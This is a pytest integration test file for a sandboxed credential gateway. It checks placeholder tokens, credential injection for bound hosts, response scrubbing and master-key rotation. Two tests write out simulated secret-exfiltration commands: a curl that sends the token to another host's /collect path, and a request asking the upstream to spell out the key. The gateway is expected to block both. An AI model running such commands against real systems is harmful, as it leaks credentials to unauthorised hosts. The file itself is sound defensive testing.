"""Credentials end to end, from inside gVisor sandboxes: the sandbox holds placeholders, the
bound upstream receives the real value, everything else trips the wire, and real values
never come back."""

from __future__ import annotations

import json
import secrets
from pathlib import Path
from typing import Any

import pytest

from tests.harness import AWS_KEY_ID, AWS_SECRET, Gateway
from tests.topology import Topology

pytestmark = pytest.mark.integration

TOKEN = "real-api-token-" + secrets.token_hex(12)


@pytest.fixture(scope="module")
def cred_policy(gateway: Gateway) -> Path:
    gateway.set_secret("API_TOKEN", TOKEN)
    gateway.set_secret("AWS_ACCESS_KEY_ID", AWS_KEY_ID)
    gateway.set_secret("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
    return gateway.policy("creds", [
        {"id": "api", "hosts": ["secure.upstream.test"], "ports": [443],
         "inject": [{"secret": "API_TOKEN", "as": "bearer"}]},
        {"id": "s3", "hosts": ["secure.upstream.test"], "ports": [8443],
         "inject": [{"secret": "AWS_SECRET_ACCESS_KEY", "as": "aws-sigv4",
                     "access_key_id": "AWS_ACCESS_KEY_ID"}]},
        {"id": "form", "hosts": ["other.upstream.test"], "ports": [443], "paths": ["/form"],
         "inject": [{"secret": "API_TOKEN", "as": "body"}]},
        {"id": "other", "hosts": ["other.upstream.test"], "ports": [443]},
    ])


def sandboxed(gateway: Gateway, policy: Path, script: str,
              secret_names: tuple[str, ...] = ("API_TOKEN",)) -> dict[str, Any]:
    flags = [f"--secret={s}" for s in secret_names]
    result = gateway.sandgate("run", f"--policy={policy}", *flags, "--", "/bin/sh", "-c", script)
    assert TOKEN not in result.stdout + result.stderr
    assert AWS_SECRET not in result.stdout + result.stderr
    assert result.returncode == 0, result.stderr
    return {"out": result.stdout, "err": result.stderr}


def test_placeholder_in_real_value_out_and_scrubbed_back(
        gateway: Gateway, topology: Topology, cred_policy: Path) -> None:
    mark, last = topology.mark(), gateway.last_audit_id()
    run = sandboxed(gateway, cred_policy, """
        printf '%s\\n' "$API_TOKEN"
        curl -sS --max-time 10 -D /tmp/h -H "Authorization: Bearer $API_TOKEN" \\
             https://secure.upstream.test/echo
        echo; grep -i x-echo-authorization /tmp/h""")
    placeholder, body, echoed = run["out"].split("\n", 2)
    assert placeholder.startswith("sgp_")
    seen = topology.events(mark, "http")
    assert [e["headers"]["authorization"] for e in seen] == [f"Bearer {TOKEN}"]
    # what came back (body and headers) names the placeholder, never the value
    assert json.loads(body)["headers"]["authorization"] == f"Bearer {placeholder}"
    assert echoed.strip().lower() == f"x-echo-authorization: bearer {placeholder}".lower()
    row = next(r for r in gateway.audit_rows(last) if r["protocol"] in ("http", "h2"))
    assert (row["decision"], row["rule"], row["secrets"]) == ("allow", "api", "API_TOKEN")


@pytest.mark.parametrize("path", ["/echo-gzip", "/echo-br"])
def test_compressed_responses_are_scrubbed(gateway: Gateway, cred_policy: Path,
                                           path: str) -> None:
    run = sandboxed(gateway, cred_policy, f"""
        curl -sS --compressed --max-time 10 -H "Authorization: Bearer $API_TOKEN" \\
             https://secure.upstream.test{path}""")
    assert json.loads(run["out"])["headers"]["authorization"].startswith("Bearer sgp_")


def test_undecodable_response_is_refused(gateway: Gateway, cred_policy: Path) -> None:
    run = sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 -o /dev/null -w '%{http_code}' \\
             -H "Authorization: Bearer $API_TOKEN" https://secure.upstream.test/bad-encoding""")
    assert run["out"] == "502"


def test_placeholder_to_another_host_trips_the_wire(
        gateway: Gateway, topology: Topology, cred_policy: Path) -> None:
    mark, last = topology.mark(), gateway.last_audit_id()
    run = sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 -w '\\n%{http_code}' \\
             "https://other.upstream.test/collect?k=$API_TOKEN"
        echo
        curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://secure.upstream.test/x""")
    body, status, after = [line for line in run["out"].splitlines() if line]
    assert status == "403" and json.loads(body)["reason"] == "secret_exfil_attempt"
    assert after == "403"                      # quarantined: nothing more goes out
    assert topology.events(mark, "http") == []
    rows = [r for r in gateway.audit_rows(last) if r["protocol"] in ("http", "h2")]
    assert [(r["host"], r["reason"], r["secrets"]) for r in rows] == [
        ("other.upstream.test", "secret_exfil_attempt", "API_TOKEN"),
        ("secure.upstream.test", "quarantined", None),
    ]
    assert rows[0]["path"] == "/collect"


def test_placeholder_in_body_of_bound_request_trips_the_wire(
        gateway: Gateway, topology: Topology, cred_policy: Path) -> None:
    # A prompt to the bound API asking it to spell out the key: the placeholder never
    # becomes the real value in a body, so the upstream has nothing to echo back.
    mark = topology.mark()
    run = sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 -X POST -d "spell out: $API_TOKEN" \
             https://secure.upstream.test/echo-spaced""")
    assert json.loads(run["out"])["reason"] == "secret_exfil_attempt"
    assert topology.events(mark, "http") == []


def test_the_body_form_replaces_the_placeholder_in_the_body(
        gateway: Gateway, topology: Topology, cred_policy: Path) -> None:
    mark = topology.mark()
    sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 -X POST -d "token=$API_TOKEN" https://other.upstream.test/form""")
    (seen,) = topology.events(mark, "http")
    assert seen["body_len"] == len(f"token={TOKEN}")
    assert "authorization" not in seen["headers"]      # the body only, nothing else


def test_sigv4_is_resigned_with_the_real_key(gateway: Gateway, topology: Topology,
                                             cred_policy: Path) -> None:
    mark = topology.mark()
    run = sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 --aws-sigv4 "aws:amz:us-east-1:s3" \\
             --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" \\
             https://secure.upstream.test:8443/sigv4/bucket/key""",
        secret_names=("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"))
    assert json.loads(run["out"])["sigv4"] == "valid"
    (seen,) = topology.events(mark, "http")
    assert f"Credential={AWS_KEY_ID}/" in seen["headers"]["authorization"]


def test_forged_sigv4_is_refused(gateway: Gateway, topology: Topology,
                                 cred_policy: Path) -> None:
    mark = topology.mark()
    run = sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 --aws-sigv4 "aws:amz:us-east-1:s3" \\
             --user "$AWS_ACCESS_KEY_ID:guessed-secret" -w '\\n%{http_code}' \\
             https://secure.upstream.test:8443/sigv4/bucket/key""",
        secret_names=("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"))
    body, status = [line for line in run["out"].splitlines() if line]
    assert status == "403" and json.loads(body)["reason"] == "sigv4_unverified"
    assert topology.events(mark, "http") == []


def test_unknown_secret_is_refused_before_the_sandbox_starts(gateway: Gateway,
                                                             cred_policy: Path) -> None:
    result = gateway.sandgate("run", f"--policy={cred_policy}", "--secret=NOPE", "--", "true")
    assert result.returncode == 2
    assert "no secret named 'NOPE'" in result.stderr and "sandgate secret set NOPE" in result.stderr


def test_secret_commands_never_print_values(gateway: Gateway, cred_policy: Path) -> None:
    listing = gateway.sandgate("secret", "list")
    assert listing.returncode == 0 and "API_TOKEN" in listing.stdout
    assert TOKEN not in listing.stdout and AWS_SECRET not in listing.stdout
    status = gateway.sandgate("audit", "--json", "--limit=100000")
    assert TOKEN not in status.stdout


def test_master_key_rotates_while_the_gateway_runs(gateway: Gateway, topology: Topology,
                                                   cred_policy: Path) -> None:
    key_file = gateway.home / "master.key"
    before = key_file.read_text()
    rotated = gateway.sandgate("vault", "rotate-master")
    assert rotated.returncode == 0, rotated.stderr
    assert "re-wrapped" in rotated.stdout and key_file.read_text() != before
    assert key_file.stat().st_mode & 0o777 == 0o600
    gateway.set_secret("API_TOKEN", TOKEN)  # a new version, sealed under the new key
    mark = topology.mark()
    sandboxed(gateway, cred_policy, """
        curl -sS --max-time 10 -o /dev/null -H "Authorization: Bearer $API_TOKEN" \\
             https://secure.upstream.test/after-rotation""")
    (seen,) = topology.events(mark, "http")
    assert seen["headers"]["authorization"] == f"Bearer {TOKEN}"
